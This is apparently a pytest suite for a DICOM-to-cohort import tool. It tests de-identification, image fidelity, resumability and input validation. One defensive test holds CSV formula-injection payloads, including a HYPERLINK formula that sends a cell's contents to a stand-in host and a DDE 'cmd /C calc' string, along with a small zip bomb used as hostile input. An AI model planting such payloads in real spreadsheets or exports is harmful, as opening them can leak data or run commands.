"""From DICOM files to a cohort: what is written is what was scanned, nobody is named, nothing stops the rest."""

import csv
import gzip
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile

import numpy as np
import pydicom
import pytest

from mtinet.cohort import Cohort
from mtinet.config import resolve, resolve_simulation
from mtinet.errors import UnusableError, UserError
from mtinet.volume import read_nifti
from mtinet.workflows.imports.mapping import MappingRow, read_mapping, write_mapping
from mtinet.workflows.ingest import IngestOptions, ingest
from mtinet.workflows.prepare import prepare_cohort
from mtinet.workflows.qc import qc
from mtinet.workflows.simulate import simulate

FAST = {"sites": ["A", "B", "C"], "spacing_mm": [6.0, 6.0, 5.0]}


def simulated(folder, subjects, **options):
    settings = resolve_simulation(
        "tiny",
        None,
        [],
        options={"subjects": subjects, **options},
        sites=FAST["sites"],
        spacing_mm=FAST["spacing_mm"],
    )
    return simulate(folder, settings, workers=1, dicom=True)


@pytest.fixture(scope="session")
def scanned(tmp_path_factory):
    """Three patients as NIfTI and as DICOM of three vendors."""
    folder = tmp_path_factory.mktemp("scanned")
    simulated(folder, 3)
    return folder


def bring_in(source, out, **options):
    return ingest(source, out, IngestOptions(key=out.parent / "key", **options), workers=1)


@pytest.fixture(scope="session")
def imported(scanned, tmp_path_factory):
    out = tmp_path_factory.mktemp("imported") / "cohort"
    return bring_in(scanned / "dicom", out, labels=scanned / "dicom" / "labels.csv", site="north")


def mapping(outcome):
    with outcome.mapping.open(encoding="utf-8", newline="") as lines:
        return {row["original_patient_id"]: row for row in csv.DictReader(lines)}


def same_place_mm(a, b):
    return a.canonical().corner_distance_mm(b.canonical())


def assert_same_cohort(origin, outcome, by_original):
    """The imported cohort holds the images, masks and classes of the NIfTI cohort that was scanned."""
    assert len(outcome.cohort) == len(origin)
    for study in origin.studies:
        mine = outcome.cohort[by_original[study.patient_id]["study_id"]]
        assert set(mine.images) == set(study.images)
        assert mine.label == study.label
        for phase, path in study.images.items():
            before, after = read_nifti(path), read_nifti(mine.images[phase])
            assert same_place_mm(before, after) < 0.01
            expected, stored = before.canonical().array, after.canonical().array
            scale = float((expected * stored).sum() / (expected * expected).sum())
            # twelve bits of the scanner, and a slope of its own
            assert np.abs(stored - scale * expected).max() <= scale * (expected.max() / 2000 + 1)
        true = read_nifti(study.mask, labels=True).canonical()
        if true.array.any():
            mask = read_nifti(mine.mask, labels=True).canonical()
            assert same_place_mm(true, mask) < 0.01
            assert np.array_equal(mask.array > 0, true.array > 0)
            assert mine.mask_phase == study.reference_phase
        for phase, seconds in mine.times_s.items():
            if phase != "pre":
                assert seconds == pytest.approx(study.times_s[phase], abs=1.0)


def gains(origin, outcome, by_original):
    """By study, what the stored values of each phase are multiplied with."""
    for study in origin.studies:
        mine = outcome.cohort[by_original[study.patient_id]["study_id"]]
        yield [
            float(
                read_nifti(mine.images[p]).array.sum(dtype=float)
                / read_nifti(study.images[p]).array.sum(dtype=float)
            )
            for p in study.images
        ]


def test_the_import_reproduces_the_cohort_that_was_scanned(scanned, imported):
    origin = Cohort.read(scanned)
    assert_same_cohort(origin, imported, mapping(imported))
    assert {s.site for s in imported.cohort.studies} == {"north"}
    assert Cohort.read(imported.cohort.folder).studies == imported.cohort.studies
    for factors in gains(origin, imported, mapping(imported)):
        # one gain for all phases of a study: enhancement survives
        assert max(factors) / min(factors) < 1.005


def test_every_decision_is_recorded_with_its_evidence(imported):
    record = json.loads((imported.cohort.folder / "import.json").read_text())
    assert set(record["studies"]) == {s.study_id for s in imported.cohort.studies}
    for study_id, entry in record["studies"].items():
        for phase in imported.cohort[study_id].images:
            told = entry["phases"][phase]
            assert told["evidence"]
            assert told["grid"]["shape"] == list(read_nifti(imported.cohort[study_id].images[phase]).shape)
        assert entry["excluded"]
    assert record["deidentified"]
    dropped = record["dropped_attributes"]
    # what the files hold, with how many of them, and nothing else of the profile
    assert any(re.fullmatch(r"PatientName .*, [1-9]\d* files", line) for line in dropped)
    assert not any("AdmissionID" in line for line in dropped)
    flow = (imported.cohort.folder / "inclusion.csv").read_text()
    assert "found,3" in flow
    assert "included,3" in flow


def everything_written(folder):
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        content = path.read_bytes()
        yield (
            path,
            str(path.relative_to(folder)).encode()
            + (gzip.decompress(content) if path.suffix == ".gz" else content),
        )


def test_nothing_that_names_a_patient_is_written(scanned, imported):
    secrets = set()
    for path in (scanned / "dicom").rglob("*.dcm"):
        header = pydicom.dcmread(path, stop_before_pixels=True)
        secrets |= {str(header.PatientID), str(header.get("PatientName", "")), header.StudyDate}
        secrets |= {header.StudyInstanceUID, header.SeriesInstanceUID, header.SOPInstanceUID}
        secrets |= {header.get("FrameOfReferenceUID", ""), header.get("AccessionNumber", "")}
    secrets = {s.encode() for s in secrets if len(s) > 3}
    assert len(secrets) > 100
    told = b"".join(content for _, content in everything_written(imported.cohort.folder))
    assert [s for s in secrets if s in told] == []
    who = imported.mapping
    assert who.stat().st_mode & 0o077 == 0
    assert not who.is_relative_to(imported.cohort.folder)


@pytest.mark.slow
def test_a_name_in_a_description_does_not_get_through(scanned, tmp_path):
    study = next((scanned / "dicom").glob("p*/*"))
    shutil.copytree(study, tmp_path / "DOE_JANE" / study.name)
    for path in (tmp_path / "DOE_JANE").rglob("*.dcm"):
        dataset = pydicom.dcmread(path)
        dataset.PatientName = "DOE^JANE"
        if "SeriesDescription" in dataset:
            dataset.SeriesDescription = f"{dataset.SeriesDescription[:40]} Doe"
        dataset.save_as(path)
    (tmp_path / "DOE_JANE" / "broken.dcm").write_bytes(path.read_bytes()[:400])
    outcome = bring_in(tmp_path / "DOE_JANE", tmp_path / "out")
    for path, content in everything_written(outcome.cohort.folder):
        assert b"DOE" not in content.upper(), path
    assert any("broken.dcm" in f.case for f in outcome.findings)


@pytest.fixture(scope="module")
def told(thick_toy, toy_scanner, tmp_path_factory):
    """What an import says on disk of a study with everybody in its headers, descriptions and names of files."""
    place = tmp_path_factory.mktemp("told")
    toy_scanner(thick_toy(31), place / "export" / "SCHAEFER_ANNA_19560312")
    said = ["Krause Grünwald 12.Mrz.1956 MRNORD7", "Lindqvist SCHAEFER 22JUL2023 ST-4711"]
    for path in (place / "export").rglob("*.dcm"):
        dataset = pydicom.dcmread(path)
        dataset.SpecificCharacterSet = "ISO_IR 192"
        dataset.PatientName, dataset.PatientBirthName = "Schäfer^Anna", "Grünwald^Anna"
        dataset.OtherPatientNames, dataset.OperatorsName = "Petrovic^Ana", "Lindqvist"
        dataset.ReferringPhysicianName = "Krause^Ute^^Dr."
        dataset.StationName, dataset.StudyID = "MRNORD7", "ST-4711"
        dataset.PatientBirthDate, dataset.SeriesDate = "19560312", "20230722"
        if dataset.Modality == "MR":
            dataset.BurnedInAnnotation = "YES" if "pv" in dataset.SeriesDescription else "NO"
            dataset.SeriesDescription = f"{dataset.SeriesDescription[:25]} {said[dataset.SeriesNumber % 2]}"
        dataset.save_as(path)
    # a PACS often writes names without a suffix
    (place / "export" / "SCHAEFER_ANNA_SCAN").write_bytes(path.read_bytes()[:200])
    (place / "export" / "Schaefer Anna").write_bytes(path.read_bytes()[:400])
    with zipfile.ZipFile(place / "export" / "Mueller_Hans", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros.dcm", bytes(4 << 20))
    phases = place / "phases.json"
    phases.write_text(json.dumps({"schema": 1, "Schaefer": {"delayed": None}}))
    outcome = bring_in(place / "export", place / "out", phases=phases)
    qc(outcome.cohort.folder, workers=1)
    return outcome, {n: (outcome.cohort.folder / n).read_text() for n in ("import.json", "qc.html")}


def test_nobody_whom_the_headers_name_stays_in_descriptions(told):
    _, texts = told
    for name, text in texts.items():
        spelled = text.encode().decode("unicode_escape") if name.endswith("json") else text
        found = re.findall("(?i)krause|lindqvist|gr.nwald|schaefer|12.mrz|22jul|mrnord7|st-4711", spelled)
        assert not found, name
    (study,) = json.loads(texts["import.json"])["studies"].values()
    assert all("[removed]" in phase["description"] for phase in study["phases"].values() if phase)


def test_text_in_the_images_is_warned_of(told):
    outcome, texts = told
    (said,) = [f for f in outcome.findings if f.id == "burned-in"]
    assert (said.severity, said.case) == ("warning", outcome.cohort.studies[0].study_id)
    assert said.meaning.startswith("portal_venous: ")
    assert all(said.meaning in text for text in texts.values())


def test_files_and_entries_are_named_on_screen_and_not_on_disk(told):
    outcome, texts = told
    said = {f.case for f in outcome.findings if f.case.startswith(("SCHAEFER", "Schaefer", "Mueller"))}
    assert len(said) == 3
    assert any(f.id == "phases-without-study" and "Schaefer" in f.meaning for f in outcome.findings)
    assert not [name for name, text in texts.items() if re.search("(?i)schaefer|mueller", text)]
    stored = json.loads(texts["import.json"])["findings"]
    assert len([f for f in stored if f["case"].startswith("file ")]) == 3
    assert {"phases-without-study"} <= {f["id"] for f in stored}


@pytest.mark.slow
def test_a_later_import_from_a_zip_gives_the_patient_the_same_id(scanned, imported, tmp_path):
    place = next((scanned / "dicom").glob("p*"))
    with zipfile.ZipFile(tmp_path / "later.zip", "w") as packed:
        for path in place.rglob("*.dcm"):
            packed.write(path, path.relative_to(place))
    shutil.copy(imported.cohort.folder.parent / "key", tmp_path / "key")
    later = bring_in(tmp_path / "later.zip", tmp_path / "out")
    study = later.cohort.studies[0]
    assert study.patient_id == mapping(imported)[place.name]["patient_id"]
    assert not study.label
    before = imported.cohort[study.study_id]
    for phase, path in study.images.items():
        assert np.array_equal(read_nifti(path).array, read_nifti(before.images[phase]).array)
    (tmp_path / "key").unlink()
    other = bring_in(tmp_path / "later.zip", tmp_path / "other")
    assert other.cohort.studies[0].patient_id != study.patient_id


@pytest.fixture
def one_study(scanned, tmp_path):
    """A copy of one study with lesions, free to be damaged."""
    origin = next(s for s in Cohort.read(scanned).studies if read_nifti(s.mask, labels=True).array.any())
    place = tmp_path / "source"
    shutil.copytree(scanned / "dicom" / origin.patient_id, place)
    return place, origin


@pytest.mark.slow
def test_labels_masks_and_phases_that_the_user_gives(one_study, tmp_path):
    place, origin = one_study
    for path in place.rglob("s900/*"):
        path.unlink()
    masks = tmp_path / "masks" / origin.patient_id
    masks.mkdir(parents=True)
    shutil.copy(origin.mask, masks / "lesions.nii.gz")
    shutil.copy(origin.liver_mask, masks / "liver.nii.gz")
    labels = tmp_path / "labels.csv"
    labels.write_text(
        f"patient_id,label,site,time_delayed_s\n{origin.patient_id},Haemangioma,NO,301\nnobody,hcc,,\n"
    )
    first = bring_in(place, tmp_path / "out", masks=tmp_path / "masks", labels=labels)
    study = first.cohort.studies[0]
    assert (study.label, study.site, study.times_s["delayed"]) == ("hemangioma", "NO", 301.0)
    true = read_nifti(origin.mask, labels=True).canonical()
    assert np.array_equal(read_nifti(study.mask, labels=True).canonical().array > 0, true.array > 0)
    assert read_nifti(study.liver_mask, labels=True).array.sum() == read_nifti(origin.liver_mask).array.sum()
    unmatched = [f for f in first.findings if f.id == "label-without-images"]
    assert len(unmatched) == 1
    assert "nobody" in unmatched[0].meaning

    told = json.loads((first.cohort.folder / "import.json").read_text())
    entry = told["studies"][study.study_id]["phases"]
    entry["delayed"], entry["transitional"] = None, entry["delayed"]
    corrected = tmp_path / "phases.json"
    corrected.write_text(
        json.dumps({"schema": 1, study.study_id: {p: entry[p] for p in ("transitional", "delayed")}})
    )
    again = bring_in(place, tmp_path / "out", masks=tmp_path / "masks", labels=labels, phases=corrected)
    changed = again.cohort.studies[0]
    assert set(changed.images) == {"pre", "arterial", "portal_venous", "transitional"}
    before, after = read_nifti(origin.images["delayed"]), read_nifti(changed.images["transitional"])
    assert np.corrcoef(before.canonical().array.ravel(), after.canonical().array.ravel())[0, 1] > 0.999


@pytest.mark.slow
def test_broken_files_are_named_and_do_not_stop_the_rest(one_study, tmp_path):
    place, origin = one_study
    files = sorted(place.rglob("*.dcm"))
    (place / "half.dcm").write_bytes(files[0].read_bytes()[:500])
    (place / "noise").write_bytes(bytes(range(256)) * 8)
    (place / "empty.dcm").touch()
    outcome = bring_in(place, tmp_path / "out")
    assert len(outcome.cohort) == 1
    assert set(outcome.cohort.studies[0].images) == set(origin.images)
    assert any("half.dcm" in f.case for f in outcome.findings)


@pytest.mark.slow
def test_a_study_of_one_phase_is_left_out_with_its_reason(scanned, one_study, tmp_path):
    place, origin = one_study
    other = next(p for p in (scanned / "dicom").glob("p*") if p.name != origin.patient_id)
    shutil.copytree(other, place / "other")
    told = {"delayed": None, "portal_venous": None, "arterial": None}
    uid = pydicom.dcmread(next(p for p in place.rglob("*.dcm") if "other" not in p.parts)).StudyInstanceUID
    phases = tmp_path / "phases.json"
    phases.write_text(json.dumps({"schema": 1, uid: told}))
    outcome = bring_in(place, tmp_path / "out", phases=phases)
    assert [row.studies for row in outcome.inclusion] == [2, 1, 1]
    assert "phases" in outcome.inclusion[1].reason
    phases.write_text(json.dumps({"schema": 1, uid: {**told, "pre": None}}))
    for path in (place / "other").rglob("*.dcm"):
        path.unlink()
    with pytest.raises(UnusableError, match="no study can be used"):
        bring_in(place, tmp_path / "none", phases=phases)


def test_folders_and_tables_of_others_are_not_touched(imported, scanned, tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("mine")
    with pytest.raises(UserError, match="not empty"):
        bring_in(scanned / "dicom", tmp_path / "mine")
    edited = tmp_path / "edited"
    shutil.copytree(imported.cohort.folder, edited)
    table = edited / "cohort.csv"
    table.write_text(table.read_text().replace("north", "south"))
    with pytest.raises(UserError, match="edited since the import"):
        bring_in(scanned / "dicom", edited)
    with pytest.raises(UserError, match="inside the cohort"):
        bring_in(scanned / "dicom", tmp_path / "new", mapping=tmp_path / "new" / "who.csv")


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1,"x")', '\'=HYPERLINK("http://x/?"&A1,"x")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("'=1+1", "''=1+1"),
        # what is no formula is found as it is by whoever reads the table with another program
        ("-17", "-17"),
        ("-", "-"),
        ("'t Hooft^Jan", "'t Hooft^Jan"),
        ("O'Brien^Pat", "O'Brien^Pat"),
    ],
)
def test_no_cell_of_the_mapping_is_computed_and_each_is_read_back(name, cell, tmp_path):
    row = MappingRow("study-1", "patient-1", name, name, "1.2", "20240131", "A-1")
    write_mapping(tmp_path / "who.csv", [row])
    with (tmp_path / "who.csv").open(newline="", encoding="utf-8") as lines:
        (stored,) = csv.DictReader(lines)
    assert (stored["patient_name"], stored["accession"]) == (cell, "A-1")
    assert read_mapping(tmp_path / "who.csv", "") == {"study-1": row}


def test_the_key_is_not_made_in_what_is_given_away(tmp_path):
    (tmp_path / "export").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "new")
    for place in ("new", "link"):
        with pytest.raises(UserError, match=r"lies inside .*--key"):
            ingest(tmp_path / "export", tmp_path / "new", IngestOptions(key=tmp_path / place / "sub" / "key"))
    assert not (tmp_path / "new").exists()


def contents(folder):
    """Every file of a cohort but its cache, unpacked."""
    return {
        str(path.relative_to(folder)): content
        for path, content in everything_written(folder)
        if ".cache" not in path.parts
    }


def killed_and_resumed(command, seen, enough):
    """Start a command, kill it when ``seen()`` reaches ``enough``, and run it to its end."""
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    ) as run:
        deadline = time.monotonic() + 600
        while seen() < enough and run.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        stopped = run.poll() is None
        os.killpg(run.pid, signal.SIGKILL)
    assert stopped, "the command ended before it could be stopped"
    subprocess.run(command, check=True, capture_output=True)


def import_prepare_resume(tmp_path, subjects, options):
    """From DICOM to prepared, once undisturbed and once killed in the import and in the preparation."""
    settings = resolve_simulation(
        "tiny", None, [], options={"subjects": subjects}, sites=["A", "B"], spacing_mm=options["spacing_mm"]
    )
    simulate(tmp_path / "sim", settings, dicom=True)
    source, python = str(tmp_path / "sim" / "dicom"), [sys.executable, "-m", "mtinet.cli"]
    outs = [tmp_path / "straight", tmp_path / "stopped"]
    make = {
        out: [*python, "import", "dicom", source, str(out), "--key", str(tmp_path / "key"), "--workers", "1",
              "--name", "c", "--labels", f"{source}/labels.csv"]
        for out in outs
    }  # fmt: skip
    prepare = {out: [*python, "prepare", str(out), "--preset", "tiny", "--workers", "1"] for out in outs}
    subprocess.run(make[outs[0]], check=True, capture_output=True)
    killed_and_resumed(
        make[outs[1]], lambda: len(list(outs[1].glob(".imported/study-*.json"))), subjects // 2
    )
    assert contents(outs[0]) == contents(outs[1])
    subprocess.run(prepare[outs[0]], check=True, capture_output=True)
    killed_and_resumed(
        prepare[outs[1]], lambda: len(list(outs[1].glob(".cache/[!.]*/meta.json"))), subjects // 2
    )
    config = resolve("tiny")
    ready = [prepare_cohort(out, config, workers=1).studies for out in outs]
    assert len(ready[0]) == subjects
    for one, other in zip(*ready, strict=True):
        assert one.key == other.key
        assert np.array_equal(one.image, other.image)
        assert one.lesions == other.lesions


@pytest.mark.slow
def test_from_dicom_to_prepared_through_two_kills(tmp_path):
    import_prepare_resume(tmp_path, 4, {"spacing_mm": [6.0, 6.0, 5.0]})


@pytest.mark.acceptance
def test_forty_studies_from_dicom_to_prepared_through_two_kills(tmp_path):
    import_prepare_resume(tmp_path, 40, {"spacing_mm": [2.6, 2.1, 5.0]})


@pytest.mark.slow
def test_the_same_through_a_real_dicom_node(scanned, imported, orthanc, tmp_path):
    for path in (scanned / "dicom").glob("p*"):
        orthanc.send(path)
    orthanc.fetch(tmp_path / "back")
    outcome = bring_in(tmp_path / "back", tmp_path / "out", labels=scanned / "dicom" / "labels.csv")
    assert_same_cohort(Cohort.read(scanned), outcome, mapping(outcome))


# ---------------------------------------------------------------------- the liver by a program
SEGMENTER = """
import sys, nibabel, numpy
image = nibabel.load(sys.argv[1])
if sys.argv[3:]:
    sys.exit("no licence")
mask = (numpy.asarray(image.dataobj) > 0).astype("uint8")
nibabel.save(nibabel.Nifti1Image(mask, image.affine), sys.argv[2])
"""


@pytest.mark.slow
def test_the_liver_is_drawn_by_the_users_program_and_tried_again(scanned, tmp_path):
    program = tmp_path / "segment.py"
    program.write_text(SEGMENTER)
    works = f"{sys.executable} {program} {{image}} {{out}}"
    failed = bring_in(scanned / "dicom", tmp_path / "cohort", liver_command=f"{works} fail")
    ids = {f.id for f in failed.findings}
    assert "liver-not-segmented" in ids
    assert all(study.liver_mask is None for study in failed.cohort.studies)
    assert any("no licence" in f.meaning for f in failed.findings)
    again = bring_in(scanned / "dicom", tmp_path / "cohort", liver_command=works)
    assert "liver-not-segmented" not in {f.id for f in again.findings}
    for study in again.cohort.studies:
        image = read_nifti(study.images[study.mask_phase or study.reference_phase])
        np.testing.assert_array_equal(
            read_nifti(study.liver_mask, labels=True).array > 0, np.asarray(image.array) > 0
        )


def test_a_liver_command_that_cannot_work_is_refused_before_anything_is_read(scanned, tmp_path):
    with pytest.raises(UserError, match="there is no program nosuchprogram"):
        bring_in(scanned / "dicom", tmp_path / "cohort", liver_command="nosuchprogram {image} {out}")
    assert not (tmp_path / "cohort").exists()
